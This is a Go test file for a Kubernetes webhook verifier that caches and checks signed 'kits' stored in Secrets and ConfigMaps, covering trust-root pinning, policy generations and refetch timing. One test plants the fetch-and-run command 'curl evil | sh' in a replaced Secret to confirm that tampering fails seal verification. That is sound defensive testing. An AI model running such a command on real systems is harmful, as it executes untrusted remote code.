package kits_test

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	testingclock "k8s.io/utils/clock/testing"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/fake"

	"github.com/kubectl-flare/kubectl-flare/policies/facts"
	"github.com/kubectl-flare/kubectl-flare/policies/frameworks"
	"github.com/kubectl-flare/kubectl-flare/policies/kit"
	"github.com/kubectl-flare/kubectl-flare/policies/kit/kittest"
	"github.com/kubectl-flare/kubectl-flare/policies/pki"
	"github.com/kubectl-flare/kubectl-flare/policies/v1alpha1"
	"github.com/kubectl-flare/kubectl-flare/webhook/kits"
)

// reader counts look-ups, and may be away.
type reader struct {
	client.Client
	gets int
	away bool
}

func (r *reader) Get(ctx context.Context, key client.ObjectKey, obj client.Object, opts ...client.GetOption) error {
	r.gets++
	if r.away {
		return errors.New("connection reset")
	}
	return r.Client.Get(ctx, key, obj, opts...)
}

type bench struct {
	*kits.Verifier
	reader        *reader
	clock         *testingclock.FakeClock
	policy        *v1alpha1.SitePolicy
	secret        *corev1.Secret
	local         *corev1.ConfigMap
	verifications int
}

func newBench(t *testing.T) *bench {
	t.Helper()
	f := kittest.NewFederation(t, "demo")
	k := f.Client("site-1", "hospital_a").Seal(t, f.Sealer("lead")).Read()
	b := &bench{clock: testingclock.NewFakeClock(time.Now()), policy: &v1alpha1.SitePolicy{ObjectMeta: metav1.ObjectMeta{UID: "p", Generation: 1}}}
	b.policy.Spec.Participants = []string{"site-1"}
	b.policy.Spec.Kits.TrustRoots = []v1alpha1.TrustRoot{{Name: "demo", SHA256: pki.Fingerprint(f.Root)}}
	b.secret = &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Namespace: "ns", Name: kit.SecretName(k), UID: "s-1"},
		Type:       facts.KitSecretType, Immutable: new(true), Data: k.SecretData(),
	}
	scheme := runtime.NewScheme()
	if err := corev1.AddToScheme(scheme); err != nil {
		t.Fatal(err)
	}
	b.local = &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "ns", Name: kit.ConfigMapName(k), UID: "m-1"}, Immutable: new(true)}
	b.local.Data, b.local.BinaryData = k.ConfigMapData()
	b.reader = &reader{Client: fake.NewClientBuilder().WithScheme(scheme).Build()}
	b.Verifier = kits.NewVerifier(b.reader, b.clock, frameworks.Default(), func() { b.verifications++ })
	return b
}

func (b *bench) create(t *testing.T, object client.Object) {
	t.Helper()
	object.SetResourceVersion("")
	if err := b.reader.Create(t.Context(), object); err != nil {
		t.Fatal(err)
	}
}

func (b *bench) kit(t *testing.T) string {
	t.Helper()
	return b.Kit(t.Context(), "ns", b.secret.Name, b.policy).Error
}

func (b *bench) expect(t *testing.T, gets, verifications int) {
	t.Helper()
	if b.reader.gets != gets || b.verifications != verifications {
		t.Errorf("%d look-ups and %d verifications, want %d and %d", b.reader.gets, b.verifications, gets, verifications)
	}
}

func TestWarmCacheAsksNobody(t *testing.T) {
	b := newBench(t)
	b.create(t, b.secret)
	for range 10 {
		if err := b.kit(t); err != "" {
			t.Fatal(err)
		}
	}
	b.expect(t, 1, 1)
	b.clock.Step(kits.Fresh)
	_ = b.kit(t)
	b.expect(t, 2, 1)
}

func TestNewGenerationVerifiesAnew(t *testing.T) {
	b := newBench(t)
	b.create(t, b.secret)
	_ = b.kit(t)
	b.policy = b.policy.DeepCopy()
	b.policy.Generation++
	b.policy.Spec.Kits.TrustRoots[0].SHA256 = strings.Repeat("0", 64)
	if err := b.kit(t); !strings.Contains(err, "root-pinned") {
		t.Errorf("got %q", err)
	}
	b.expect(t, 2, 2)
}

// A policy that was deleted and made again begins with generation 1 again.
func TestAnotherPolicyOfTheSameGeneration(t *testing.T) {
	b := newBench(t)
	b.create(t, b.secret)
	_ = b.kit(t)
	b.policy = b.policy.DeepCopy()
	b.policy.UID = "q"
	_ = b.kit(t)
	b.expect(t, 2, 2)
}

// The Secret is deleted and made again under the same name, with other content.
func TestReplacedSecret(t *testing.T) {
	b := newBench(t)
	b.create(t, b.secret)
	_ = b.kit(t)
	if err := b.reader.Delete(t.Context(), b.secret); err != nil {
		t.Fatal(err)
	}
	other := b.secret.DeepCopy()
	other.UID, other.Data["start.sh"] = "s-2", []byte("curl evil | sh")
	b.create(t, other)
	b.clock.Step(kits.Fresh)
	if err := b.kit(t); !strings.Contains(err, "seal-files") {
		t.Errorf("got %q", err)
	}
	if b.Kit(t.Context(), "ns", b.secret.Name, b.policy).Participant != "" {
		t.Error("a bad kit has a participant")
	}
}

// What is bad is never remembered: it may have been fixed.
func TestFailuresAreNotKept(t *testing.T) {
	b := newBench(t)
	if err := b.kit(t); err != "the Secret does not exist" {
		t.Errorf("got %q", err)
	}
	b.create(t, b.secret)
	if err := b.kit(t); err != "" {
		t.Errorf("got %q", err)
	}
	b.clock.Step(kits.Fresh)
	b.reader.away = true
	if err := b.kit(t); !strings.Contains(err, "connection reset") {
		t.Errorf("got %q", err)
	}
}

func TestLocals(t *testing.T) {
	b := newBench(t)
	m := b.local
	b.create(t, m)
	for range 3 {
		if fact := b.Local(t.Context(), "ns", m.Name, b.policy); fact.Error != "" || !fact.Immutable || fact.Identity.Participant != "site-1" {
			t.Errorf("%+v", fact)
		}
	}
	b.expect(t, 1, 1)
	if fact := b.Local(t.Context(), "elsewhere", m.Name, b.policy); fact.Error == "" {
		t.Error("another namespace's ConfigMap was taken")
	}
	// A sealer that the policy does not name any more does not count.
	b.policy = b.policy.DeepCopy()
	b.policy.Generation++
	b.policy.Spec.Kits.TrustRoots[0].SHA256 = strings.Repeat("0", 64)
	if fact := b.Local(t.Context(), "ns", m.Name, b.policy); !strings.Contains(fact.Error, "local-seal") {
		t.Errorf("%+v", fact)
	}
	b.expect(t, 3, 2)
}
